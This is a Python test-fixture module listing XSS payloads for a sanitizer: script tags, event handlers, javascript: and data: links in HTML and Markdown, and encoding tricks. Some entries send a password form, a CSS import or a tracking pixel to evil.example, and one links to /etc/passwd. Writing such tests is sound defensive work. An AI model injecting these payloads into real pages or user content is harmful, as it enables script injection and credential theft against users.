"""Attacks that text could carry: our own, and those of DOMPurify where ../shared/data is at hand."""

import json
from pathlib import Path

_DOMPURIFY = Path(__file__).parents[3] / "shared" / "data" / "xss" / "dompurify-expect.json"

OWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><use href='data:image/svg+xml,x#x'></use></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<p style='background:url(https://evil.example)' onclick=alert(1)>x</p>",
    "<!--><img src=x onerror=alert(1)>-->",
    "[x](javascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x09;javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    '![x](x" onerror="alert(1))',
    '[x](https://a.example/" onmouseover="alert(1))',
    "[x](https://a.example 'x\" onmouseover=\"alert(1)')",
    "[a](https://a.example/[b](javascript:alert(1)))",
    "`<script>alert(1)</script>`",
    "```<script>\n<script>alert(1)</script>\n```",
    '```" onclick="alert(1)\nx\n```',
    "## <img src=x onerror=alert(1)>",
    '## x" onclick="alert(1)',
    "> <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| c | d |",
    "\x00<scr\x00ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "https://a.example/\u202ejs.exe",
    'www.a.example"onclick=alert(1)',
]


def payloads() -> list[str]:
    """All attacks that are at hand."""
    if not _DOMPURIFY.exists():
        return OWN
    return OWN + [entry["payload"] for entry in json.loads(_DOMPURIFY.read_text("utf-8"))]
